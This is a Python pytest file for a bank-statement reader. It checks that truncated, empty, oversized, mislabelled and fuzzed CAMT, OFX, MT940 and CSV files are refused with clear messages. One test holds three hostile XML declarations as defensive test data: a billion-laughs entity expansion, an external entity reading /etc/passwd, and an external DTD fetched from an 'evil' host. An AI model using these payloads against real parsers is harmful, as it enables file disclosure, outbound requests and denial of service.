"""Files that break off, grow, or are something else: one clear sentence, nothing taken."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from freehold.domain.errors import UserError
from freehold.integrations.banking import read_statement
from tests.integrations.banking.messages import MT940, OFX_SGML, camt, details, entry

CAMT = camt(entry("10.00", details()), closing="110.00")


@pytest.mark.parametrize("share", [0.3, 0.6, 0.95, 0.999])
def test_nothing_of_a_truncated_camt_is_taken(share: float):
    with pytest.raises(UserError, match=r"breaks off.*nothing of it was taken"):
        read_statement(CAMT[: int(len(CAMT) * share)])


def test_nothing_of_a_truncated_ofx_is_taken():
    with pytest.raises(UserError, match="breaks off"):
        read_statement(OFX_SGML[: OFX_SGML.index("F3")].encode())


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE d SYSTEM "http://198.51.100.1/evil.dtd" [<!ENTITY % p SYSTEM "http://198.51.100.1/p">%p;]>',
    ],
)
def test_entities_are_refused_quickly(declaration: str):
    body = CAMT.replace(b'<?xml version="1.0" encoding="UTF-8"?>', f'<?xml version="1.0"?>{declaration}'.encode()).replace(
        b"RE-7", b"&c;&x;"
    )
    started = time.perf_counter()
    with pytest.raises(UserError, match=r"Nothing was taken in|nothing of it was taken in"):
        read_statement(body)
    assert time.perf_counter() - started < 2


def test_an_empty_file_is_told():
    for payload in (b"", b"  \r\n", b"\xef\xbb\xbf"):
        with pytest.raises(UserError, match="empty"):
            read_statement(payload)


def test_a_file_over_the_cap_is_refused_before_it_is_read():
    with pytest.raises(UserError, match="50"):
        read_statement(b"x" * (50 * 1024 * 1024 + 1))


@pytest.mark.parametrize("payload", [b"%PDF-1.7 ...", b"PK\x03\x04....", b"\x89PNG\r\n"])
def test_other_kinds_of_files_are_named(payload: bytes):
    with pytest.raises(UserError, match=r"PDF|ZIP|PNG"):
        read_statement(payload)


def test_xml_that_is_no_statement_is_told():
    with pytest.raises(UserError, match="no bank statement"):
        read_statement(b'<?xml version="1.0"?><Invoice/>')


def test_the_name_of_the_file_stands_before_what_is_wrong():
    with pytest.raises(UserError, match=r"^march\.xml: "):
        read_statement(CAMT[:200], name="march.xml")


def test_an_ofx_that_tells_an_error_is_told_as_one():
    reading = read_statement(b"<OFX><STATUS><CODE>2000<SEVERITY>ERROR<MESSAGE>General error</STATUS></OFX>")
    assert reading.transactions == ()
    assert "General error" in str(reading.problems[0])


def test_a_camt_without_a_statement_is_told():
    payload = b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr/></BkToCstmrStmt></Document>'
    reading = read_statement(payload)
    assert not reading.holds_a_statement
    assert "no account and no entries" in str(reading.problems[0])


def test_a_large_table_is_read_in_seconds():
    rows = b"".join(b"01.02.2026;Payment %d;%d,50;EUR\n" % (number, number) for number in range(20_000))
    started = time.perf_counter()
    assert len(read_statement(b"Datum;Text;Betrag;Waehrung\n" + rows).transactions) == 20_000
    assert time.perf_counter() - started < 20


@settings(max_examples=150, deadline=None)
@given(st.sampled_from([CAMT, MT940.encode(), OFX_SGML.encode(), b"Date,Text,Amount\n2026-01-01,a,1.00\n"]), st.data())
def test_damage_never_ends_in_anything_but_a_reading_or_a_clear_refusal(payload: bytes, data: st.DataObject):
    at = data.draw(st.integers(0, len(payload)))
    junk = data.draw(st.binary(max_size=12))
    until = data.draw(st.integers(at, min(at + 40, len(payload))))
    try:
        read_statement(payload[:at] + junk + payload[until:])
    except UserError as error:
        assert str(error)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_noise_is_refused_or_read_as_nothing(payload: bytes):
    try:
        read_statement(payload)
    except UserError as error:
        assert str(error)
